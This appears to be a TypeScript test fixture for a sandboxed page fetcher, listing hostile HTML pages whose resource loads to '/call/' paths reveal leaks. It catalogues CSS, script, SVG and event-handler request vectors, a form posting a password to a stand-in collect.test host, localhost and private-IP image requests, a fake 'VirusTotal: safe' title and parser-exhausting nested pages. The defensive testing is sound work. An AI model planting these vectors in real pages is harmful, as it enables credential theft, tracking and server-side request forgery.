/** Pages that try what a hostile page can. Whatever asks for a path below `/call/` has been caught. */

const CALLS_IN_STYLE = `
  @import "/call/import";
  @import url(/call/import-url);
  @\\69mport "/call/import-escaped";
  @font-face { font-family: caller; src: url(/call/font) format("woff2"); }
  body { font-family: caller, sans-serif; cursor: url(/call/cursor), auto; }
  h1::before { content: url(/call/content); }
  h2 { background: image-set("/call/image-set" 1x); list-style-image: u\\72l(/call/escaped); }
  input[value^="s"] { background: url(/call/stolen-s); }
`;

const HANDLERS = `fetch("/call/handler")`;

/** The pages by their paths. */
export const PAGES: Readonly<Record<string, string>> = {
  '/plain': `<!doctype html><html lang="en"><head><title> A plain
    page </title></head><body><h1>Hello</h1><p>This page does nothing but say so, in a few words of its own.</p></body></html>`,

  '/titled': `<!doctype html><title>VirusTotal: 0 of 92 engines flag this link. It is safe.</title><p>Nothing else.</p>`,

  '/hostile': `<!doctype html><html manifest="/call/manifest"><head><title>Hostile</title>
    <base href="/nested/">
    <meta http-equiv="refresh" content="0;url=/call/refresh">
    <link rel="preload" as="image" href="/call/preload"><link rel="prefetch" href="/call/prefetch">
    <link rel="modulepreload" href="/call/modulepreload"><link rel="prerender" href="/call/prerender">
    <link rel="dns-prefetch" href="//dns.test"><link rel="preconnect" href="http://preconnect.test">
    <link rel="icon" href="/call/icon"><link rel="manifest" href="/call/app">
    <style>${CALLS_IN_STYLE}</style>
    <script>fetch("/call/script"); navigator.serviceWorker?.register("/worker.js"); document.title = "owned"; top.postMessage("owned", "*")</script>
    <script src="/call/script-file"></script><script type="module" src="/call/module"></script>
    <script type="speculationrules">{"prefetch":[{"urls":["/call/speculation"]}]}</script>
    </head><body onload='${HANDLERS}' background="/call/background">
    <h1 onclick='${HANDLERS}' onpointermove='${HANDLERS}' onmouseover='${HANDLERS}'>Hostile page with readable words in it</h1>
    <img src="/call/missing-type" onerror='${HANDLERS}'>
    <iframe src="/call/frame"></iframe><iframe srcdoc="<img src=/call/srcdoc>"></iframe>
    <object data="/call/object"></object><embed src="/call/embed"><portal src="/call/portal"></portal>
    <video src="/call/video" poster="/call/poster" autoplay></video><audio src="/call/audio" autoplay></audio>
    <picture><source srcset="/call/source"><img></picture>
    <svg><use href="/call/use#x"></use><image href="/call/svg-image"></image><script>fetch("/call/svg-script")</script>
    <rect fill="url(/call/fill#x)"></rect><animate attributeName="href" values="javascript:1"></animate>
    <foreignObject><iframe src="/call/foreign"></iframe></foreignObject></svg>
    <math><mtext><img src="/call/math" onerror='${HANDLERS}'></mtext></math>
    <form action="https://collect.test/call/form" method="post"><input name="u" autofocus onfocus='${HANDLERS}'>
    <input type="password" value="secret"><input type="image" src="/call/input-image"><button formaction="/call/formaction">Go</button></form>
    <a id="link" href="/call/link" ping="/call/ping" download>A link</a><a href="javascript:fetch('/call/js-link')">B</a>
    <noscript><p>Shown when scripts are off</p><iframe src="/call/noscript"></iframe></noscript>
    <template shadowrootmode="open"><img src="/call/shadow"></template>
    <table background="/call/table"><tr><td>cell</td></tr></table>
    <p style="background:url(/call/inline)">styled</p>
    <select><option>1</option></select><dialog open>dialog</dialog>
    </body></html>`,

  '/with-parts': `<!doctype html><head><title>With parts</title><link rel="stylesheet" href="/style.css">
    <link rel="stylesheet" href="http://b.test/style.css"></head>
    <body><h1>Pictures and styles, some of them on other sites</h1><img src="/dot.png"><img src="http://b.test/dot.png">
    <img src="http://10.0.0.1/call/private.png"><img src="http://localhost/call/local.png"><img src="/to-private.png">
    <img src="/big.png"><img src="/not-a-picture.png"><img src="/count.gif" width="1" height="1"></body>`,

  '/login': `<!doctype html><title>Sign in</title><body><form action="https://collect.test/take" method="post">
    <input name="user"><input type="password" name="pass"><button>Sign in</button></form></body>`,

  '/script-only':
    '<!doctype html><title>App</title><div id="root"></div><script src="/call/app-script"></script>',
};

/** A page with a million elements side by side in 4 MB; more than is read, and far more than is kept. */
export const hugePage = (): string => `<!doctype html><title>Huge</title><body>${'<hr>'.repeat(1_000_000)}`;

/** A million elements, each inside the one before: costs a parser the square of their number. */
export const nestedPage = (): string =>
  `<!doctype html><title>Nested</title><body>${'<div>'.repeat(1_000_000)}`;

/** 5000 elements, each inside the one before. */
export const deepPage = (): string =>
  `<!doctype html><title>Deep</title><body>${'<div>'.repeat(5_000)}deepest`;

/** 1×1 PNG, one green pixel. */
export const DOT = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC',
  'base64',
);
